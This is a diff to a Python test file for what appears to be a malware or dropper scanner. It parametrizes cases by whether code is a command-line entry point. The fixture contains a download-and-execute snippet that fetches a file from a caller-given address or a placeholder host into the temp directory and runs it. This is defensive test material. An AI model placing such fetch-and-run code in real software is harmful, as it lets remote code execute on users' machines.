@@ -118,23 +118,31 @@ def test_an_installer_is_run_as_a_module(text: str) -> None:
 
 FETCHED = """
 import os, subprocess, tempfile, urllib.request
+import click
 
 def fetched(place):
     path = os.path.join(tempfile.gettempdir(), "run-it")
     urllib.request.urlretrieve(place, path)
     subprocess.run([path])
 
+{command}
 def main(told):
     fetched({place})
+
+{start}
 """
 
 
 @pytest.mark.parametrize(
-    ("place", "weight"),
+    ("place", "command", "weight"),
     [
-        ("told", Severity.MEDIUM),  # a caller says it, as for templates and plug-ins
-        ("'http://c.example.invalid/run-it'", Severity.CRITICAL),
+        ("told", True, Severity.MEDIUM),  # whoever runs it says so, as for templates and plug-ins
+        ("told", False, Severity.CRITICAL),  # another package may hand it an address
+        ("'http://c.example.invalid/run-it'", True, Severity.CRITICAL),
     ],
 )
-def test_a_program_from_where_a_caller_says(place: str, weight: Severity) -> None:
-    assert worst("dropper", FETCHED.replace("{place}", place)) is weight
+def test_a_program_from_where_a_caller_says(place: str, command: bool, weight: Severity) -> None:
+    text = FETCHED.replace("{place}", place)
+    text = text.replace("{command}", "@click.command()" if command else "")
+    text = text.replace("{start}", "if __name__ == '__main__':\n    main()" if command else "")
+    assert worst("dropper", text) is weight
